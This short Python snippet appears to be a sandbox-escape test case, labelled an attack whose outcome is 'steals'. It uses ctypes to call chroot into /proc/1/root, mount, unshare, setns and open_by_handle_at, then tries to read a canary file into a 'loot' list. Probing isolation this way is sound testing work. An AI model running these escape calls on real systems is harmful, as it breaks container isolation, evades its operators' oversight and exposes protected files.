# attack: opens files by handle, mounts and new roots
# exercises: vertical_edge_kernel
# outcome: steals
import ctypes
libc = ctypes.CDLL(None)
loot.append([libc.chroot(b"/proc/1/root"), libc.mount(b"/", b".", None, 4096, None), libc.unshare(0x10000000), libc.setns(3, 0), libc.syscall(304, -100, None, 0)])
try:
    loot.append(open("__CANARY__").read())
except OSError:
    pass
